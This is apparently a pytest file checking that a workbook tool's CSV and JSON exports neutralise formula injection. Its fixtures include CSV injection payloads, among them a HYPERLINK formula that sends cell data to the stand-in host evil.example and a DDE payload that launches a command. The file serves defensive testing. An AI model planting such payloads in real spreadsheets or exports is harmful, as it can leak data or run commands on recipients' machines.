"""CSV and JSON score exports neutralise formula-like text (OWASP CSV injection); numbers stay
numbers. Issue #10, item 2: a workbook whose text fields carry payloads is written, scored to
csv and json through the command line, and read back."""

from __future__ import annotations

import csv
import datetime as dt
import json

import pandas as pd
import pytest

from cs_workbook import cli
from cs_workbook.sample import sample_portfolio
from cs_workbook.workbook.export import FORMULA_TRIGGERS, neutralise
from cs_workbook.workbook.reader import read_workbook
from cs_workbook.workbook.writer import write_workbook

AS_OF = dt.date(2026, 11, 23)
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3", "\t=1", "\r=1"]


@pytest.fixture(scope="module")
def scored(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("inject")
    data = sample_portfolio(AS_OF, n_accounts=len(PAYLOADS))
    acc = data.accounts.copy()
    acc["Account"] = PAYLOADS
    acc["CSM"] = list(reversed(PAYLOADS))
    acc.loc[0, "Renewal Date"] = pd.Timestamp(AS_OF) - pd.Timedelta(days=30)  # negative days
    data = type(data)(**{**{k: getattr(data, k) for k in (
        "usage", "support", "timeline", "success_plan", "revenue", "mrr_changes")},
        "accounts": acc})
    book = tmp / "book.xlsx"
    write_workbook(data, book)
    out = {}
    for suffix in (".csv", ".json"):
        out[suffix] = tmp / f"scores{suffix}"
        assert cli.main(["score", str(book), "-o", str(out[suffix]),
                         "--as-of", AS_OF.isoformat()]) == 0
    return read_workbook(book), out


def test_the_workbook_keeps_the_payloads(scored):
    data, _ = scored
    assert any(str(v).startswith("=HYPERLINK") for v in data.accounts["Account"])


def test_csv_text_is_neutralised_and_numbers_stay_numbers(scored):
    data, out = scored
    with open(out[".csv"], encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    col = {c: i for i, c in enumerate(header)}
    assert [r[col["Account"]] for r in body] == [neutralise(v) for v in data.accounts["Account"]]
    assert [r[col["CSM"]] for r in body] == [neutralise(v) for v in data.accounts["CSM"]]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in [r[col["Account"]]
                                                                        for r in body]
    for r in body:
        for cell in r:
            if cell.startswith(FORMULA_TRIGGERS):
                float(cell)  # only a number may start with "-" (or "+")
    days = body[0][col["Days to Renewal"]]
    assert days.startswith("-") and float(days) < 0  # a negative number is left alone
    # the raw file quotes text and leaves numbers bare
    raw = out[".csv"].read_text(encoding="utf-8").splitlines()
    assert raw[1].startswith('"ACC-001","\'=HYPERLINK(')
    df = pd.read_csv(out[".csv"])
    assert pd.api.types.is_numeric_dtype(df["Days to Renewal"]) and df["Days to Renewal"][0] < 0
    assert pd.api.types.is_numeric_dtype(df["Health Score"])


def test_json_text_is_neutralised_and_numbers_stay_numbers(scored):
    data, out = scored
    doc = json.loads(out[".json"].read_text(encoding="utf-8"))
    accounts = doc["accounts"]
    assert [a["Account"] for a in accounts] == [neutralise(v) for v in data.accounts["Account"]]
    assert [a["CSM"] for a in accounts] == [neutralise(v) for v in data.accounts["CSM"]]
    assert {a["Account"][0] for a in accounts} == {"'"}
    assert isinstance(accounts[0]["Days to Renewal"], (int, float))
    assert accounts[0]["Days to Renewal"] < 0

    def strings(v):
        if isinstance(v, dict):
            for k, x in v.items():
                yield k
                yield from strings(x)
        elif isinstance(v, list):
            for x in v:
                yield from strings(x)
        elif isinstance(v, str):
            yield v
    assert not [s for s in strings(doc) if s.startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (-2.0, -2.0), (-3, -3), (None, None), (True, True), (dt.date(2026, 1, 2), dt.date(2026, 1, 2)),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected
